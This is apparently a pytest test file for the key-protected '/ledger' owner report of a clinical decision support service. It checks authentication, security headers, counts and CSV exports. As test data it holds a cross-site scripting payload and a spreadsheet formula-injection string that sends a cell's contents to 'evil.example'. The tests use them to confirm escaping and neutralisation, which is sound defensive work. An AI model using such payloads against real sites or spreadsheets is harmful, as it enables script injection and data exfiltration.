"""`/ledger`: counts, overrides and comments for the owner of a protocol, and for nobody else."""

from __future__ import annotations

import csv
import io
import json
import re
from base64 import b64encode
from collections.abc import Iterator, Mapping
from datetime import datetime
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest
from pydantic import SecretStr
from sqlalchemy import create_engine, insert

from cds_service.errors import StartRefused
from cds_service.ledger import owner_report as report
from cds_service.ledger.calls import cards
from cds_service.ledger.feedback import feedback
from cds_service.security.clients import open_mode_client
from cds_service.settings import Settings
from cds_service.tools.integrator.calling import USER
from cds_service.web.ledger_page import harmless
from tests.hospitals import FEEDBACK, Hospitals
from tests.html_pages import read, unreadable
from tests.ledger.shown import show
from tests.service import KEY, Service, prefetch_of, request_of

PAGE_KEY = "owner-" + "k" * 32
MARCH, APRIL = datetime(2026, 3, 2, 12), datetime(2026, 4, 30, 23, 59)  # noqa: DTZ001 - UTC by column
PATHS = ("/ledger", "/ledger/cards.csv", "/ledger/overrides.csv", "/ledger/comments.csv")
EVIL = "<script>alert(1)</script><img src=x onerror=alert(2)>\u202e"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'


def basic(key: str = PAGE_KEY, user: str = "owner") -> Mapping[str, str]:
    return {"Authorization": f"Basic {b64encode(f'{user}:{key}'.encode()).decode()}"}


@pytest.fixture
def service(database: str, tmp_path: Path) -> Iterator[Service]:
    service = Service(
        tmp_path,
        database_url=database,
        ledger_page=True,
        ledger_page_key=SecretStr(PAGE_KEY),
    )
    yield service
    service.close()


class Written:
    """Rows straight into the ledger of a service."""

    def __init__(self, service: Service) -> None:
        self.engine = create_engine(service.database_url)
        self.told = 0

    def due(self, *uuids: str, place: str = "shown", topic: str = "", **call: Any) -> None:
        show(self.engine, uuids, **call)
        with self.engine.begin() as connection:
            changed = {"place": place} | ({"topic": topic} if topic else {})
            connection.execute(cards.update().where(cards.c.uuid.in_(uuids)).values(changed))

    def feedback(self, card: str, outcome: str = "overridden", **row: Any) -> None:
        self.told += 1
        words = dict.fromkeys(
            ("service", "outcome_at", "reason_code", "reason_system", "reason_display", "comment"),
            "",
        )
        row = words | {"client": "General", "received": APRIL, "suggestions": []} | row
        row |= {"id": f"{self.told:064}", "card": card, "outcome": outcome}
        with self.engine.begin() as connection:
            connection.execute(insert(feedback), row)


@pytest.fixture
def written(service: Service) -> Iterator[Written]:
    written = Written(service)
    yield written
    written.engine.dispose()


def rows_of(service: Service, name: str) -> list[list[str]]:
    answer = service.client.get(f"/ledger/{name}.csv", headers=basic())
    assert answer.status_code == 200
    return list(csv.reader(io.StringIO(answer.text)))[1:]


class TestKey:
    """Off by default, with a key of its own, and no word about a wrong one."""

    @pytest.mark.parametrize("path", PATHS)
    def test_it_is_not_there_unless_it_is_switched_on(self, tmp_path: Path, path: str) -> None:
        service = Service(tmp_path, ledger_page_key=SecretStr(PAGE_KEY))
        assert service.client.get(path, headers=basic()).status_code == 404
        service.close()

    @pytest.mark.parametrize("key", ["", "k" * 31])
    def test_without_a_key_the_service_does_not_start(self, key: str) -> None:
        given = {"CDS_OPEN": "1", "CDS_LEDGER_PAGE": "1", "CDS_LEDGER_PAGE_KEY": key}
        with pytest.raises(StartRefused) as refused:
            Settings.from_environ(given)
        (fault,) = refused.value.faults
        assert fault.startswith("CDS_LEDGER_PAGE_KEY is needed with CDS_LEDGER_PAGE")
        assert Settings.from_environ(given | {"CDS_LEDGER_PAGE_KEY": PAGE_KEY}).ledger_page

    def test_nor_by_settings_that_were_made_otherwise(self, tmp_path: Path) -> None:
        with pytest.raises(StartRefused):
            Service(tmp_path, ledger_page=True)

    def test_it_is_not_the_key_of_the_patients_hash(self) -> None:
        given = {"CDS_OPEN": "1", "CDS_LEDGER_KEY": PAGE_KEY, "CDS_LEDGER_PAGE_KEY": PAGE_KEY}
        with pytest.raises(StartRefused):
            Settings.from_environ(given | {"CDS_LEDGER_PAGE": "1"})

    @pytest.mark.parametrize("path", PATHS)
    @pytest.mark.parametrize("user", ["owner", "", "anybody"])
    def test_the_right_key_opens_it(self, service: Service, path: str, user: str) -> None:
        assert service.client.get(path, headers=basic(user=user)).status_code == 200

    @pytest.mark.parametrize("path", PATHS)
    def test_every_other_request_is_refused_in_one_way(self, service: Service, path: str) -> None:
        wrong = [
            {},
            basic(""),
            basic(PAGE_KEY[:-1]),
            basic(PAGE_KEY + "k"),
            basic(PAGE_KEY.upper()),
            basic(KEY),
            {"Authorization": f"Bearer {PAGE_KEY}"},
            {"Authorization": "Basic"},
            {"Authorization": "Basic !!!"},
            {"Authorization": "Basic " + b64encode(b"\xff:\xff").decode()},
            {"Cookie": f"key={PAGE_KEY}"},
        ]
        answers = [service.client.get(path, headers=head) for head in wrong]
        answers.append(service.client.get(f"{path}?key={PAGE_KEY}"))
        told = {(a.status_code, a.text, a.headers["WWW-Authenticate"]) for a in answers}
        assert len(told) == 1
        (status, text, challenge) = told.pop()
        assert status == 401
        assert challenge.startswith("Basic ")
        assert "Set-Cookie" not in answers[0].headers
        assert "topic" not in text

    def test_the_key_is_compared_in_constant_time(
        self, service: Service, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        compared: list[tuple[bytes, bytes]] = []

        def compare(one: bytes, other: bytes) -> bool:
            compared.append((one, other))
            return False

        monkeypatch.setattr("cds_service.web.ledger_page.hmac.compare_digest", compare)
        for head in ({}, basic("k"), basic()):
            assert service.client.get("/ledger", headers=head).status_code == 401
        assert {(len(one), len(other)) for one, other in compared} == {(32, 32)}
        assert len(compared) == 3

    def test_no_key_is_logged(self, tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
        key_of_page = SecretStr(PAGE_KEY)
        service = Service(tmp_path, ledger_page=True, ledger_page_key=key_of_page)
        for key in (PAGE_KEY, "a wrong one that somebody typed"):
            service.client.get("/ledger", headers=basic(key))
        service.close()
        logged = "".join(capfd.readouterr())
        assert "ledger page refused" in logged
        assert PAGE_KEY not in logged
        assert "somebody typed" not in logged
        assert basic()["Authorization"].split()[1] not in logged

    @pytest.mark.parametrize("method", ["post", "put", "delete", "patch"])
    def test_it_is_read_only(self, service: Service, method: str) -> None:
        for path in PATHS:
            assert getattr(service.client, method)(path, headers=basic()).status_code == 405

    def test_pages_of_others_cannot_read_or_frame_it(self, tmp_path: Path) -> None:
        service = Service(
            tmp_path,
            ledger_page=True,
            ledger_page_key=SecretStr(PAGE_KEY),
            cors_origins=("https://ehr.example.org",),
        )
        head = basic() | {"Origin": "https://ehr.example.org"}
        for path in PATHS:
            answer = service.client.get(path, headers=head)
            assert "Access-Control-Allow-Credentials" not in answer.headers
            policy = answer.headers["Content-Security-Policy"]
            assert "frame-ancestors 'none'" in policy
            assert "script-src" not in policy
            assert "default-src 'none'" in policy
            assert answer.headers["Cache-Control"] == "no-store"
            assert answer.headers["Referrer-Policy"] == "no-referrer"
            assert answer.headers["X-Content-Type-Options"] == "nosniff"
        service.close()

    def test_the_style_is_the_one_the_policy_allows(self, service: Service) -> None:
        answer = service.client.get("/ledger", headers=basic())
        (style,) = re.findall(r"<style>(.*?)</style>", answer.text, re.DOTALL)
        digest = b64encode(sha256(style.encode()).digest()).decode()
        assert f"'sha256-{digest}'" in answer.headers["Content-Security-Policy"]


class TestCounts:
    def test_cards_by_client_topic_and_month(self, service: Service, written: Written) -> None:
        written.due("a", "b", at=MARCH)
        written.due("c", at=APRIL)
        written.due("d", at=APRIL, client="South", topic="hitSuspected")
        written.due("e", "f", at=APRIL, place="silent")
        written.due("g", at=APRIL, place="no room")
        written.feedback("a", "accepted")
        written.feedback("a", "accepted", outcome_at="again")
        written.feedback("b", reason_code="disagree")
        assert rows_of(service, "cards") == [
            ["General", "antithrombinDose", "2026-03", "2", "0", "0", "1", "1"],
            ["General", "antithrombinDose", "2026-04", "1", "2", "1", "0", "0"],
            ["South", "hitSuspected", "2026-04", "1", "0", "0", "0", "0"],
        ]
        html = service.client.get("/ledger", headers=basic()).text
        cells = re.findall(r"<t[hd][^>]*>([^<]*)</t[hd]>", html)
        at = cells.index("General")
        assert cells[at : at + 8] == rows_of(service, "cards")[0]

    def test_the_page_is_readable(self, service: Service, written: Written) -> None:
        assert list(unreadable(service.client.get("/ledger", headers=basic()).text)) == []
        written.due("a", "b", client=EVIL)
        written.feedback("a", client=EVIL, reason_code=FORMULA, comment="why")
        html = service.client.get("/ledger", headers=basic()).text
        assert len(list(read(html).all("table"))) == 4
        assert [one for one in unreadable(html) if "onerror" not in one] == []

    def test_override_reasons(self, service: Service, written: Written) -> None:
        written.due("a", "b", "c", "d")
        written.feedback("a", reason_code="disagree")
        written.feedback("a", reason_code="disagree", outcome_at="again")
        written.feedback("b", reason_code="disagree")
        written.feedback("c")
        written.feedback("d", "accepted")
        assert rows_of(service, "overrides") == [
            ["General", "antithrombinDose", "", "1"],
            ["General", "antithrombinDose", "disagree", "2"],
        ]

    def test_versions_of_protocols(self, service: Service, written: Written) -> None:
        written.due("a", at=MARCH, protocol="default", protocol_hash="old")
        written.due(at=APRIL, protocol="default", protocol_hash="old")
        written.due("b", at=APRIL, protocol="default", protocol_hash="new", place="silent")
        with written.engine.connect() as connection:
            versions = report.owner_report(connection).versions
        assert [(v.digest, v.first, v.last, v.calls, v.shown, v.silent) for v in versions] == [
            ("new", APRIL, APRIL, 1, 0, 1),
            ("old", MARCH, APRIL, 2, 1, 0),
        ]
        html = service.client.get("/ledger", headers=basic()).text
        assert html.index("<code>new</code>") < html.index("<code>old</code>")

    def test_feedback_counts_for_the_client_that_the_card_went_to(
        self, service: Service, written: Written
    ) -> None:
        """An older ledger may hold another client's."""
        written.due("a")
        written.feedback("a", client="South", comment="not theirs")
        written.feedback("unknown", comment="of no card")
        assert rows_of(service, "cards")[0][-2:] == ["0", "0"]
        assert rows_of(service, "comments") == rows_of(service, "overrides") == []

    def test_test_calls_are_left_out_and_named(self, service: Service, written: Written) -> None:
        written.due("a", client="open")
        written.due("b", user=report.TEST_USER)
        written.due("c", user="Practitioner/7")
        for card, client in (("a", "open"), ("b", "General")):
            written.feedback(card, client=client, comment="heparin-cds check")
        assert [row[3] for row in rows_of(service, "cards")] == ["1"]
        assert rows_of(service, "comments") == []
        html = service.client.get("/ledger", headers=basic()).text
        assert "Test calls left out" in html
        assert "check</code>): 2." in html
        assert "heparin-cds check</td>" not in html

    def test_test_calls_are_marked_as_those_who_make_them_mark_them(self) -> None:
        assert open_mode_client(()).name == report.OPEN_CLIENT
        assert report.TEST_USER == USER

    def test_an_empty_ledger_is_reported_as_empty(self, service: Service) -> None:
        html = service.client.get("/ledger", headers=basic()).text
        for told in ("No card was due yet", "No card was overridden", "No call is recorded"):
            assert told in html

    def test_neither_patient_nor_user_is_there(self, service: Service, written: Written) -> None:
        written.due("a", patient="f" * 64, user="Practitioner/secret-name", hook_instance="inst-1")
        written.feedback("a", comment="fine", reason_code="disagree")
        for path in PATHS:
            text = service.client.get(path, headers=basic()).text
            for secret in ("f" * 64, "secret-name", "inst-1"):
                assert secret not in text

    def test_a_ledger_that_fails_is_no_empty_page(
        self, service: Service, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        service.execute("DROP TABLE feedback")
        assert service.client.get("/ledger", headers=basic()).status_code == 503


class TestOutsideText:
    """Comments, reasons and names come from outside."""

    def test_it_stays_text_on_the_page(self, service: Service, written: Written) -> None:
        written.due("a", client=EVIL)
        written.feedback("a", client=EVIL, comment=f"{EVIL}\nsecond line", reason_code=EVIL)
        html = service.client.get("/ledger", headers=basic()).text
        assert html.count("&lt;script&gt;alert(1)&lt;/script&gt;") >= 4
        assert not re.search(r"<script|<img|onerror=(?!alert\(2\)&gt;)", html)
        assert html.count("<bdi>") == html.count("</bdi>") == 3

    @pytest.mark.parametrize(
        "text",
        [FORMULA, "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", " =1", "\u00a0=1", "\ufeff=1", "＝1"],
    )
    def test_no_cell_is_a_formula(self, service: Service, written: Written, text: str) -> None:
        written.due("a", client=text)
        written.feedback("a", client=text, comment=text, reason_code=text)
        for name in ("cards", "overrides", "comments"):
            cells = (cell for row in rows_of(service, name) for cell in row)
            assert not any(re.match(r"[\s\ufeff]*[=+@＝-]", cell) for cell in cells)
        assert rows_of(service, "comments")[0][-1] == f"'{text}"

    def test_what_is_no_formula_stays_as_it_was(self) -> None:
        for text in ("a = b", "5-10", "", "'quoted", "ok"):
            assert harmless(text) == text
        assert harmless(-5) == -5

    def test_quotes_commas_and_lines_stay_in_their_cell(
        self, service: Service, written: Written
    ) -> None:
        text = 'he said "no",\nthen; left'
        written.due("a")
        written.feedback("a", comment=text, reason_code="disagree")
        assert rows_of(service, "comments") == [
            ["2026-04-30T23:59:00Z", "General", "antithrombinDose", "disagree", text]
        ]

    def test_it_is_a_download(self, service: Service) -> None:
        for path in PATHS[1:]:
            answer = service.client.get(path, headers=basic())
            assert answer.mimetype == "text/csv"
            assert answer.headers["Content-Disposition"].startswith("attachment; ")

    def test_the_newest_comments_first_and_not_without_end(
        self, service: Service, written: Written, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(report, "MOST_COMMENTS", 2)
        written.due("a")
        for day in (1, 3, 2):
            received = datetime(2026, 5, day)  # noqa: DTZ001 - UTC by column
            written.feedback("a", received=received, comment=f"of day {day}")
        assert [row[-1] for row in rows_of(service, "comments")] == ["of day 3", "of day 2"]


def test_from_a_call_and_its_override_to_the_page(tmp_path: Path, database: str) -> None:
    """A registered hospital's own call and feedback, and a check's beside them."""
    one = Hospitals(
        tmp_path,
        {"North": ""},
        database_url=database,
        ledger_page=True,
        ledger_page_key=SecretStr(PAGE_KEY),
    )
    (card,) = one.cards("North")
    item = {
        "card": card["uuid"],
        "outcome": "overridden",
        "outcomeTimestamp": "2026-03-02T14:00:00Z",
        "overrideReason": {"reason": {"code": "disagree"}, "userComment": "seen, renal failure"},
    }
    assert one.post("North", FEEDBACK, {"feedback": [item]}).status_code == 200
    check = json.loads(json.dumps(request_of() | {"prefetch": prefetch_of()}))
    check["context"]["userId"] = USER
    assert one.post("North", f"/cds-services/heparin-{check['hook']}", check).json["cards"]

    html = one.service.client.get("/ledger", headers=basic()).text
    assert rows_of(one.service, "cards") == [
        ["North", "antithrombinDose", "2026-03", "1", "0", "0", "0", "1"]
    ]
    one.service.close()
    assert "seen, renal failure" in html
    assert "check</code>): 1." in html
